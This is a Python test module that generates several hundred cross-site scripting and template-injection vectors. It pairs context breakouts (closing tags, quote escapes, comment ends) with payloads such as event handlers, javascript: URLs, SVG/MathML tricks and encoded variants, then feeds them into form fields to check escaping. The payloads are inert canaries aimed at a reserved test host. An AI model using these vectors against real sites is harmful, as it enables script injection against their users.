"""Words that want to become markup: at least 300 of them, our own, made by rule.

Each is a way out of the place that a page puts words in, followed by something to do outside.
Whatever comes out shows: as an element or an attribute named `x-canary`, as a call of `run()`, or
as a request that nobody of ours makes.
"""

from collections.abc import Iterator
from itertools import count, product

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</select>",
    "-->",
    "]]>",
    "\x0b>",
    "&quot;&gt;",
)

DEEDS = (
    "<x-canary>",
    "<ScRiPt x-canary>run()</sCrIpT>",
    "<script/src=//x.test x-canary></script>",
    "<img src=x onerror=run() x-canary>",
    "<image/src=x/onerror=run()>",
    "<svg/onload=run()>",
    "<svg><script>run()</script>",
    "<svg><a xlink:href=javascript:run()><text>x",
    "<math href=javascript:run()>x</math>",
    "<math><mtext><mglyph><style><!--</style><img src onerror=run()>",
    "<a href=javascript:run()>x</a>",
    "<a href=' &#1;java&Tab;script:run()'>x</a>",
    "<a href=data:text/html,<script>run()</script>>x",
    "<iframe srcdoc=<script>top.run()</script>>",
    "<iframe/src=javascript:top.run()>",
    "<object data=javascript:run()>",
    "<embed src=//x.test/x>",
    "<base href=//x.test/>",
    "<meta http-equiv=refresh content=0;url=//x.test>",
    "<link rel=stylesheet href=//x.test/x>",
    "<style>@import'//x.test/x'</style>",
    "<p style=background:url(//x.test/x)>x",
    "<details open ontoggle=run()>",
    "<input autofocus onfocus=run()>",
    "<body onpageshow=run()>",
    "<video><source onerror=run()>",
    "<form action=javascript:run()><button>x",
    "<button formaction=javascript:run()>x",
    '" x-canary autofocus onfocus="run()',
    "' x-canary onmouseover='run()",
    "`x-canary onmouseover=run()",
    "javascript:run()//",
    "\\u003cx-canary\\u003e",
    "%3Cx-canary%3E",
    "&lt;x-canary&gt;",
    "&amp;lt;x-canary&amp;gt;",
    "&#60;x-canary&#62;",
    "＜x-canary＞",
    "\u2028run()//",
    "';run();'",
    "${run()}",
    "{{7*7}}{% debug %}",
    "%(run)s{0}{run}",
)

VECTORS = tuple(f"{out}{deed}" for out, deed in product(WAYS_OUT, DEEDS))
EVERYTHING = " ".join(VECTORS)
SHORT = "<x-canary>"
STRIDE = 193  # without a divisor in common with their number: neighbours differ in both parts


class Hostile:
    """Hands out vectors in turn, so that all are used, however short the fields are."""

    def __init__(self) -> None:
        self._turn = count()
        self.used: set[str] = set()

    def words(self, longest: int | None) -> str:
        """As many vectors as fit into `longest` characters; all of them where there is no limit.

        A field that is too short for the next one gets a mark that fits.
        """
        if longest is None or longest > len(EVERYTHING):
            self.used.update(VECTORS)
            return EVERYTHING
        return " ".join(self._that_fit(longest)) or SHORT[:longest]

    def _that_fit(self, longest: int) -> Iterator[str]:
        for _try in VECTORS:
            vector = VECTORS[next(self._turn) * STRIDE % len(VECTORS)]
            if len(vector) > longest:
                continue
            yield vector
            self.used.add(vector)
            longest -= len(vector) + 1
            if longest < 24:
                return
